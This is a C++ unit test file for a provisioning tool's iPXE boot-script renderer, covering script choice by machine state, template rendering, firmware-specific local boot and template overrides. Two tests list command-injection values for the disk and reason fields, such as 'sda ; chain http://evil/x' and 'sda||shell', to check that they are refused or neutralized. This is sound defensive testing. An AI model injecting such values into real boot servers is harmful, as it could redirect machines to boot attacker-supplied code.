#include "boot/script.h"

#include <gtest/gtest.h>

#include <fstream>

#include "tests/unit/test_dir.h"

namespace kiln::boot {
namespace {

using proto::MachineState;

TEST(BootScript, ChooseTable) {
  struct Row {
    bool known;
    MachineState state;
    bool active, retry;
    Script want;
  } rows[] = {
      {false, MachineState::kDiscovered, false, false, Script::kDiscover},
      {true, MachineState::kDiscovered, false, false, Script::kDiscover},
      {true, MachineState::kReady, false, false, Script::kWait},
      {true, MachineState::kDeploying, true, false, Script::kDeploy},
      // deploying without an active deployment (it was superseded): nothing to do yet
      {true, MachineState::kDeploying, false, false, Script::kWait},
      {true, MachineState::kDeployed, false, false, Script::kLocalBoot},
      // deployed, then reassigned: the machine is deploying again
      {true, MachineState::kDeployed, true, false, Script::kDeploy},
      {true, MachineState::kFailed, false, true, Script::kDeploy},
      {true, MachineState::kFailed, false, false, Script::kFailed},
      {true, MachineState::kFailed, true, false, Script::kDeploy},
  };
  for (const auto& r : rows) {
    EXPECT_EQ(choose_script({r.known, r.state, r.active, r.retry}), r.want)
        << proto::to_string(r.state) << " known=" << r.known << " active=" << r.active;
  }
}

Templates::Vars deploy_vars() {
  return {{"mac", "52:54:00:99:00:01"},
          {"server", "http://10.99.0.1:8080"},
          {"agent_servers", "http://10.99.0.1:8080"},
          {"script_url", "http://10.99.0.1:8080/boot/52:54:00:99:00:01.ipxe"},
          {"kernel_url", "http://10.99.0.1:8080/files/kiln/vmlinuz"},
          {"initrd_url", "http://10.99.0.1:8080/files/kiln/initrd.img"},
          {"initrd_name", "initrd.img"},
          {"cmdline", "console=ttyS0,115200 quiet"},
          {"after", "reboot"},
          {"retry_s", "10"},
          {"image", "web:1"},
          {"deployment", "7"},
          {"ticket", "kilnticket_0123"},
          {"disk", "largest"}};
}

TEST(BootScript, RendersDeploy) {
  auto out = Templates::embedded().render(Script::kDeploy, deploy_vars());
  ASSERT_TRUE(out) << out.error().message;
  EXPECT_EQ(out->rfind("#!ipxe\n", 0), 0u);
  EXPECT_NE(out->find("kernel http://10.99.0.1:8080/files/kiln/vmlinuz initrd=initrd.img "
                      "console=ttyS0,115200 quiet kiln.mode=deploy "
                      "kiln.server=http://10.99.0.1:8080 kiln.mac=52:54:00:99:00:01 "
                      "kiln.ticket=kilnticket_0123 kiln.disk=largest kiln.after=reboot"),
            std::string::npos)
      << *out;
  EXPECT_NE(out->find("initrd http://10.99.0.1:8080/files/kiln/initrd.img"), std::string::npos);
  EXPECT_EQ(out->find("{{"), std::string::npos);
}

TEST(BootScript, RefusesMissingAndUnsafeValues) {
  auto vars = deploy_vars();
  vars.erase("ticket");
  auto out = Templates::embedded().render(Script::kDeploy, vars);
  ASSERT_FALSE(out);
  EXPECT_NE(out.error().message.find("{{ticket}}"), std::string::npos);

  for (const char* bad :
       {"a\nshell", "${net0/mac}", "x\"y", "a\\b", "tab\there", "sda ; chain http://evil/x",
        "sda||shell", "sda&&shell", "sda #", "/dev/sda kiln.server=http://evil"}) {
    vars = deploy_vars();
    vars["disk"] = bad;
    out = Templates::embedded().render(Script::kDeploy, vars);
    ASSERT_FALSE(out) << bad;
    EXPECT_EQ(out.error().code, Errc::kInvalid);
  }
}

TEST(BootScript, LocalBootPerFirmware) {
  auto out = Templates::embedded().render(
      Script::kLocalBoot, {{"mac", "m"},
                           {"image", "web:1"},
                           {"bios_command", local_boot_command(LocalBoot::kSanboot)},
                           {"efi_command", local_boot_command(LocalBoot::kExit)}});
  ASSERT_TRUE(out) << out.error().message;
  EXPECT_NE(out->find("iseq ${platform} efi"), std::string::npos);
  EXPECT_NE(out->find("sanboot --no-describe --drive 0x80"), std::string::npos);
  EXPECT_NE(out->find(":efi\nexit 1"), std::string::npos);
  EXPECT_EQ(parse_local_boot("exit"), LocalBoot::kExit);
  EXPECT_EQ(parse_local_boot("sanboot"), LocalBoot::kSanboot);
  EXPECT_FALSE(parse_local_boot("grub"));
}

TEST(BootScript, ReasonMayHoldSpacesButNoSeparators) {
  auto vars = Templates::Vars{{"mac", "m"},
                              {"reason", script_text("chunk 3; reboot")},
                              {"poll_s", "5"},
                              {"script_url", "http://s/boot/m.ipxe"}};
  auto out = Templates::embedded().render(Script::kFailed, vars);
  ASSERT_TRUE(out) << out.error().message;
  EXPECT_NE(out->find("failed: chunk 3_ reboot"), std::string::npos) << *out;
  vars["reason"] = "chunk 3; reboot";  // unsanitized: refused
  EXPECT_FALSE(Templates::embedded().render(Script::kFailed, vars));
}

TEST(BootScript, ScriptTextNeutralizesIpxeSyntax) {
  EXPECT_EQ(script_text("chunk 3: sha256 mismatch"), "chunk 3: sha256 mismatch");
  EXPECT_EQ(script_text("${root}\n#x\"'\\"), "__root___x___");
  EXPECT_EQ(script_text("x ; chain http://evil/a || shell & y"),
            "x _ chain http://evil/a __ shell _ y");
  EXPECT_EQ(script_text(std::string(500, 'a')).size(), 200u);
}

TEST(BootScript, Overrides) {
  const auto dir = kiln::testing::make_test_dir("script");
  { std::ofstream(dir / "wait.ipxe") << "#!ipxe\necho custom {{mac}}\n"; }
  auto t = Templates::with_overrides(dir);
  ASSERT_TRUE(t) << t.error().message;
  auto out = t->render(Script::kWait, {{"mac", "m1"}});
  ASSERT_TRUE(out);
  EXPECT_EQ(*out, "#!ipxe\necho custom m1\n");
  // the others stay the embedded ones
  EXPECT_EQ(t->source(Script::kDeploy), Templates::embedded().source(Script::kDeploy));

  { std::ofstream(dir / "failed.ipxe") << "echo not a script\n"; }
  auto bad = Templates::with_overrides(dir);
  ASSERT_FALSE(bad);
  EXPECT_EQ(bad.error().code, Errc::kInvalid);
  std::filesystem::remove_all(dir);
}

}  // namespace
}  // namespace kiln::boot
